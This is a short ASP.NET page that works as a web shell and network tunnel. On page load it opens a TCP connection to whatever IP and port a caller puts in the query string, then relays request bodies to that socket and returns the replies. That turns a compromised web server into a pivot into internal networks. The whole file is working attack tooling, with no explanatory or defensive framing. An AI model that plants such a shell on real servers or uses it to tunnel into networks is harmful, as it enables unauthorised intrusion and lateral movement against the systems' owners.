<%@ Page Language="C#" EnableSessionState="True"%>
<%@ Import Namespace="System.Net" %>
<%@ Import Namespace="System.Net.Sockets" %>
<script runat="server">
protected void Page_Load(object sender, EventArgs e) {
  if (Request.QueryString["proxy"] != null) {
    if (Request.QueryString["port"] != null) {
      Socket s = new Socket(AddressFamily.InterNetwork, SocketType.Stream, ProtocolType.Tcp);
      s.Connect(new IPEndPoint(IPAddress.Parse(Request.QueryString["ip"]), int.Parse(Request.QueryString["port"])));
      Session["socket"] = s;
      Response.Write("[OK]");
      return;
    }
    Socket sock = (Socket)Session["socket"];
    byte[] inb = new byte[Request.ContentLength];
    Request.InputStream.Read(inb, 0, inb.Length);
    if (inb.Length > 0) sock.Send(inb);
    byte[] outb = new byte[4096];
    if (sock.Available > 0) { int n = sock.Receive(outb); Response.BinaryWrite(outb.Take(n).ToArray()); }
  }
}
</script>
